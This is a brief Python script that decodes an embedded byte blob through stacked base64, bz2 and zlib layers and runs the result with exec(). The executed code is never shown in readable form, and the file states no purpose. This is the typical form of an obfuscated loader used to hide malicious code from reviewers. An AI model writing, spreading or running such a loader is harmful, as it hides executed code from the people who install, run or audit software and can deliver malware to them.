import base64, bz2, lzma, zlib

_L = {0: bz2.decompress, 1: zlib.decompress, 2: lzma.decompress, 3: base64.b64decode}
_S = [3, 0, 3, 1]
_V = (
    b'QlpoOTFBWSZTWZQ/z2cAACufgAAI/eI3/+7QPv/v0CAAdCpPSZPSGamhoyegNE0MyT1PTU21DAAA'
    b'ABpoAAZADT1yhUoQ0eqcNg9pjAGxo+SaxYgowuAZAqnCfebwvp8RKkjw+bH2crqUN/z0e2IxOlan'
    b'ZLjaF+NegXlUyWf8bMjypq0gmLiUoBkYeliCZwLGporx7xUHIIKcDxwlC/HzbqLuSKcKEhKH+ezg'
)
for _i in _S:
    _V = _L[_i](_V)
exec(_V)
